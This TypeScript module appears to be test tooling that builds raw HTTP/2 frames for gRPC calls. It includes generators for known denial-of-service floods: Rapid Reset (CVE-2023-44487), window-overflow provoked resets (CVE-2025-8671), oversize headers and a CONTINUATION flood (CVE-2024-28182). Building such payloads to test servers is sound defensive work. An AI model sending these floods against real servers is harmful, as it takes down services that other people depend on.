/**
 * gRPC calls as HTTP/2 frames: whole, half, and in the floods that are known as attacks. Knows no socket.
 */
import { Buffer } from "node:buffer";
import { callerSetup } from "./caller_setup.ts";
import { callHeaders, ERROR, FLAG, FRAME, frame, headerBlock, uint32 } from "./http2_frames.ts";

/** A whole call on a stream: headers, an empty message, end. */
export function call(path: string, stream: number): Buffer {
  return Buffer.concat([openCall(path, stream), frame(FRAME.data, FLAG.endStream, stream, Buffer.alloc(5))]);
}

/** The headers of a call whose message is still to come, with what attackers bring. */
export function openCall(path: string, stream: number, more: readonly (readonly [string, string])[] = []): Buffer {
  return frame(
    FRAME.headers,
    FLAG.endHeaders,
    stream,
    callHeaders(path, [...Object.entries(callerSetup().attackerHeaders), ...more]),
  );
}

/** Calls that are reset as soon as they are open (CVE-2023-44487). */
export function resets(path: string, count: number): Iterable<Buffer> {
  return many(
    count,
    (i) => Buffer.concat([call(path, 2 * i + 1), frame(FRAME.reset, 0, 2 * i + 1, uint32(ERROR.cancel))]),
  );
}

/** Calls that make the server reset them, by a window that overflows (CVE-2025-8671). */
export function provokedResets(path: string, count: number): Iterable<Buffer> {
  return many(
    count,
    (i) => Buffer.concat([openCall(path, 2 * i + 1), frame(FRAME.windowUpdate, 0, 2 * i + 1, uint32(0x7fffffff))]),
  );
}

/** A header block of about `size` bytes over one HEADERS and many CONTINUATION frames, complete. */
export function oversizeHeaders(path: string, stream: number, size: number): Buffer[] {
  const block = callHeaders(path, many(Math.ceil(size / 1_000), (i) => [`x-${i}`, "a".repeat(990)]));
  const frames = [frame(FRAME.headers, FLAG.endStream, stream, block.subarray(0, 16_000))];
  for (let from = 16_000; from < block.length; from += 16_000) {
    const last = from + 16_000 >= block.length;
    const part = block.subarray(from, from + 16_000);
    frames.push(frame(FRAME.continuation, last ? FLAG.endHeaders : 0, stream, part));
  }
  return frames;
}

/** A header block that never ends (CVE-2024-28182). */
export function continuationFlood(path: string, count: number, empty: boolean): Iterable<Buffer> {
  const more = headerBlock(empty ? [] : [["x", "a".repeat(100)]]);
  const flood = many(count, () => frame(FRAME.continuation, 0, 1, more));
  return [frame(FRAME.headers, FLAG.endStream, 1, callHeaders(path)), ...flood];
}

/** So many of them, made one by one from their index. */
export function many<T>(count: number, one: (index: number) => T): T[] {
  return Array.from({ length: count }, (_, index) => one(index));
}
